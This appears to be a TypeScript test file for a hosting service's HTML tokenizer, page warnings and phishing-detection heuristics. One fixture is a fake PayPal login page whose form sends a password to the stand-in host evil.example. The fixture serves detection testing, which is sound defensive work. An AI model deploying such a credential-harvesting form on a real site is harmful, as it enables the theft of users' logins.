import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { Tokenizer } from 'htmlparser2'
import { eachTag, pageText, type Tag } from '../../src/util/html-tags.js'
import { phishingSigns, scanPage } from '../../src/features/abuse/heuristics.js'
import { pageWarnings, type PageWarning } from '../../src/features/sites/page-warnings.js'

const tags = (html: string): Tag[] => {
  const out: Tag[] = []
  eachTag(html, (t) => out.push(t))
  return out
}

describe("a page's tags and text as a browser's tokenizer reads them", () => {
  it('lower-cases names, decodes entities in values, keeps the first of a repeated attribute', () => {
    assert.deepEqual(tags('<FORM Action="a?x=1&amp;y=2" ID=f id=g><Input TYPE=file name=cv></form>'), [
      { name: 'form', attrs: { action: 'a?x=1&y=2', id: 'f' }, end: false },
      { name: 'input', attrs: { type: 'file', name: 'cv' }, end: false },
      { name: 'form', attrs: {}, end: true },
    ])
  })

  it('finds no tag in comments, in the text of scripts, styles and textareas, nor inside templates', () => {
    const html =
      '<!-- <input a> --><script>"<input b>"</script><style>/* <input c> */</style><textarea><input d></textarea><template><input e></template><input f>'
    assert.deepEqual(
      tags(html).filter((t) => t.name === 'input'),
      [{ name: 'input', attrs: { f: '' }, end: false }],
    )
  })

  it("a page's text: text nodes outside scripts and styles, the title's included, entities decoded", () => {
    const text = pageText('<title>Log in &amp; pay</title><script>var paypal</script><style>.x{}</style><p>Your<b>bank</b></p>')
    assert.equal(text.replace(/\s+/g, ' ').trim(), 'Log in & pay Your bank')
  })

  it("an uploaded page is tokenized once for the owner's warnings and the phishing heuristics together", () => {
    // how many times `fn` has the tokenizer read a page (each pass writes the page once)
    const passes = (fn: () => void): number => {
      // eslint-disable-next-line @typescript-eslint/unbound-method -- restored as is below, called with its this
      const write = Tokenizer.prototype.write
      let n = 0
      Tokenizer.prototype.write = function (this: Tokenizer, chunk: string) {
        n++
        write.call(this, chunk)
      }
      try {
        fn()
      } finally {
        Tokenizer.prototype.write = write
      }
      return n
    }
    const login =
      '<title>PayPal log in</title><form action="https://evil.example/take" method="post"><input type="password" name="pw"><input type="file" name="id"></form>' +
      '<form action="https://svc.example/api/forms/submit/contact" method="post"><input type="hidden" name="_next" value="thanks.html"></form>' +
      '<script type="module" src="/src/main.tsx"></script>'
    const plain = '<p>Hello</p><form method="post"><input type="file" name="cv"></form><script type="module" src="/src/app.jsx"></script>'
    const ctx = { ownHosts: ['svc.example'], brands: ['paypal'] }
    for (const html of [login, plain]) {
      // what each check finds reading the page on its own
      const alone = { warnings: pageWarnings('index.html', html, 'proj'), reasons: phishingSigns(html, ctx) }
      const warnings: PageWarning[] = []
      let reasons: string[] = []
      const n = passes(() => {
        reasons = scanPage(html, ctx, (read) => warnings.push(...pageWarnings('index.html', read(), 'proj')))
      })
      assert.equal(n, 1, 'one pass of the tokenizer for every check of the page')
      assert.deepEqual({ warnings, reasons }, alone)
    }
    // (the checks found something to say: a source module, file inputs, a relative _next, both signs)
    assert.equal(pageWarnings('index.html', login, 'proj').length, 3)
    assert.equal(phishingSigns(login, ctx).length, 2)
    // a page no check reads is not tokenized
    assert.equal(
      passes(() => scanPage(plain, ctx)),
      0,
    )
  })
})
